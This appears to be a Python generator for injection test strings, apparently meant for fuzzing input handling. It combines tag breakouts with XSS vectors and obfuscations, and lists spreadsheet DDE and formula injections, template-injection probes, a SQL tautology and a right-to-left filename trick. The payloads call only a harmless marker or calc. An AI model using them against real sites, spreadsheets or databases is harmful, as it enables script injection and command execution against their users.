"""Makes hostile texts by combination: how one leaves the place where a text stands, what one starts
there, how it is disguised.
"""

from itertools import product

# Out of an element, an attribute, a script, a comment, a style, a template of ours.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</p>",
    "</title>",
    "</textarea>",
    "--><!--",
    "]]>",
    "</script>",
    "{{ x }}{% x %}",
)
ACTS = (
    "<script>marca()</script>",
    "<img src=x onerror=marca()>",
    "<svg/onload=marca()>",
    "<iframe srcdoc='<script>marca()</script>'>",
    '<a href="javascript:marca()">x</a>',
    "<details open ontoggle=marca()>",
)
DISGUISES = (
    lambda text: text,
    str.swapcase,
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("marca", "marca\u200b"),
    lambda text: text.replace("<", "<\u0000"[:1]).replace(">", " >"),
)
# What runs where there is no markup: a cell, a line of a log, a header of a letter, a document
# being set.
PLAIN = (
    "=HYPERLINK(\"https://otro.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
    "\t=1+1", "#eval(\"1\")", "$ x $", "\\include{x}",
    "*negrita* _cursiva_ #link(\"x\")", "%s %(user)s {user} ${7*7} {{7*7}} <%= 7*7 %>",
    "' OR 1=1 --", "\u202egpj.exe",
)  # fmt: skip


def payloads() -> list[str]:
    """Return about three hundred texts."""
    made = [disguise(out + act) for out, act, disguise in product(WAYS_OUT, ACTS, DISGUISES)]
    return [*dict.fromkeys(made), *PLAIN]


def bundled(texts: list[str], most: int) -> list[str]:
    """Return as few texts as hold all of them, each within a length."""
    bundles = [""]
    for text in texts:
        if len(bundles[-1]) + len(text) + 1 > most:
            bundles.append("")
        bundles[-1] += text + " "
    return [bundle.strip() for bundle in bundles]
